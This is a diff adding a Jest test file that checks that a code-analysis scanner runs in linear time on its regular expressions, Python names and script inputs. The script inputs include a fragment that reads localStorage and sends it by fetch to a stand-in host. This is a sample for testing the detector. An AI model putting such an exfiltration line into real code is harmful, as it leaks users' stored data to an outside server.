@@ -1,0 +1,30 @@
+import { describe, expect, it } from '@jest/globals';
+import { checkPackage } from '../../src/analysis/checks/check-package.js';
+import { checkScript } from '../../src/analysis/checks/javascript.js';
+import { PythonModule } from '../../src/analysis/python-module.js';
+import { loadPythonGrammar } from '../../src/analysis/python-syntax.js';
+import { bounded } from '../support/faults.js';
+import { growthOf, slowOnes, slowPatterns, writtenPatterns } from '../support/growth.js';
+
+describe('the analysis takes time in proportion to its text', () => {
+  const MOST = bounded({ usual: 8192, long: 131_072 });
+
+  it('in its regular expressions', () => {
+    const patterns = writtenPatterns((file) => file.startsWith('src/analysis/'));
+    expect(patterns.size).toBeGreaterThan(50);
+    expect(slowPatterns(patterns)).toEqual([]);
+  });
+
+  it('of names in Python', async () => {
+    await loadPythonGrammar();
+    const source = (size: number): PythonModule => new PythonModule('a.py', `a${'\u0301\u0316'.repeat(size / 2)}()\n`);
+    const check = (module: PythonModule): unknown =>
+      checkPackage({ modules: new Map([['a.py', module]]), texts: new Map(), paths: ['a.py'] }, []);
+    expect(growthOf(source, check, MOST)).toMatchObject({ isLinear: true });
+  });
+
+  it('of scripts', () => {
+    const heads = ['', 'fetch(', 'let a = localStorage;', 'const a = ', '/*', '(e.key'];
+    expect(slowOnes(checkScript, { most: MOST, heads, tails: ['', ');fetch("https://a.example/"+a)'] })).toEqual([]);
+  });
+});
